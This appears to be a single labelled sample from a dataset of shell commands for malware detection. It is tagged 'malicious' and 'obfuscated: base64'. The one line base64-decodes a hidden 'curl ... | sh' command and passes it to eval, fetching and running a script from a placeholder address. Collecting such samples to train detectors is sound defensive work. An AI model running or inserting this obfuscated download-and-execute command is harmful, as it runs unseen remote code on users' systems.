# label: malicious; obfuscated: base64
eval "$(echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjkveCB8IHNo | base64 --decode)"
